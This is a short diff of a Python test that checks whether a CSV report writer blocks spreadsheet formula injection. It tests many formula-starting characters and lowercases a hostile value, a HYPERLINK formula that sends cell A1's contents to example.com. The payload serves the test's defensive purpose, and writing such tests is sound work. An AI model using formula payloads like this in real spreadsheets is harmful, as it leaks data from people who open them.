@@ -99,7 +99,7 @@ def test_the_csv_module_reads_csv(report: str, tmp_path: Path) -> None:
     "start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b"]
 )
 def test_csv_has_no_formulas(start: str, tmp_path: Path) -> None:
-    hostile = f'{start}HYPERLINK("http://example.com/?"&A1)'
+    hostile = f'{start}hyperlink("http://example.com/?"&a1)'
     report = write_report(
         tmp_path / "r",
         [
